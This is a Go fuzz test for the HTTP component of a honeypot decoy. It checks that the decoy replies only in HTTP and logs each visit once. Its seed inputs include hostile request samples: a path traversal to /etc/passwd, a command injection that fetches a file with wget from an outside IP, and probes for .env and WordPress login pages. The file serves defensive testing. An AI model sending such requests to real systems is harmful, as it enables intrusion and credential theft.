package web

import (
	"bytes"
	"context"
	"io"
	"net"
	"testing"
	"time"

	"bartizan/internal/decoy"
	"bartizan/internal/decoy/decoytest"
	"bartizan/internal/observe"
)

// one is a connection that says in and remembers what is answered.
type one struct {
	net.Conn
	in  *bytes.Reader
	out bytes.Buffer
}

func (c *one) Read(p []byte) (int, error)       { return c.in.Read(p) }
func (c *one) Write(p []byte) (int, error)      { return c.out.Write(p) }
func (c *one) Close() error                     { return nil }
func (c *one) SetDeadline(time.Time) error      { return nil }
func (c *one) SetReadDeadline(time.Time) error  { return nil }
func (c *one) SetWriteDeadline(time.Time) error { return nil }
func (c *one) LocalAddr() net.Addr              { return &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 80} }
func (c *one) RemoteAddr() net.Addr             { return &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 4000} }

// single hands out one connection and then ends the listener.
type single struct{ conns []net.Conn }

func (l *single) Accept() (net.Conn, error) {
	if len(l.conns) == 0 {
		return nil, io.EOF
	}
	c := l.conns[0]
	l.conns = l.conns[1:]
	return c, nil
}
func (l *single) Close() error   { return nil }
func (l *single) Addr() net.Addr { return &net.TCPAddr{} }

type checked struct {
	t    *testing.T
	ends int
}

func (k *checked) Emit(_ context.Context, o *observe.Observation) error {
	if err := o.Check(time.Now()); err != nil {
		k.t.Errorf("refused observation: %v", err)
	}
	if o.Interaction != nil {
		k.ends++
	}
	return nil
}

// FuzzServe: whatever is said, the decoy answers in HTTP or not at all, makes
// no mistake of its own, and reports the visit once.
func FuzzServe(f *testing.F) {
	for _, s := range []string{
		"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nlog=a&pwd", "GET /.env\r\n",
		"PUT /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3;a\r\nabc\r\n0\r\n\r\n", "CONNECT a:1 HTTP/1.1\r\nHost: a:1\r\n\r\n",
		"GET http://a/b HTTP/1.0\r\n\r\n", "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.0\r\n\r\n", "\x16\x03\x01\x00\x05hello",
		"POST /upload HTTP/1.0\r\nContent-Type: multipart/form-data; boundary=q\r\nContent-Length: 70\r\n\r\n--q\r\nContent-Disposition: form-data; name=f; filename=a\r\n\r\nx\r\n--q--\r\n\r\n\r\n",
		"POST /xmlrpc.php HTTP/1.0\r\nContent-Length: 80\r\n\r\nwp.<value><string>a</string></value></param><param><value><string>b</string></value>", "GET /x?a=;wget+http://1.2.3.4/x HTTP/1.0\r\nAuthorization: Basic !!!\r\n\r\n",
		"POST /api/login HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: 35\r\n\r\n{\"username\":\"a\",\"password\":[\"b\"]}  ",
	} {
		f.Add([]byte(s))
	}
	v, err := New(Default())
	if err != nil {
		f.Fatal(err)
	}
	p := decoytest.Persona()
	f.Fuzz(func(t *testing.T, data []byte) {
		c := &one{in: bytes.NewReader(data)}
		k := &checked{t: t}
		r := decoy.NewRunner(k, func(_ string, err error) { t.Errorf("our fault: %v", err) })
		_ = r.Serve(t.Context(), &decoy.Instance{Name: "f", Service: "http", Impl: v, Limits: decoytest.Limits(), Persona: p}, &single{conns: []net.Conn{c}}) // ends with io.EOF
		if k.ends != 1 {
			t.Errorf("%d reports of the visit", k.ends)
		}
		if out := c.out.Bytes(); len(out) > 0 && !bytes.HasPrefix(out, []byte("HTTP/1.1 ")) && !bytes.HasPrefix(data, []byte("GET ")) && !bytes.HasPrefix(bytes.TrimLeft(data, "\r\n"), []byte("GET ")) {
			t.Errorf("answered %.80q", out)
		}
	})
}
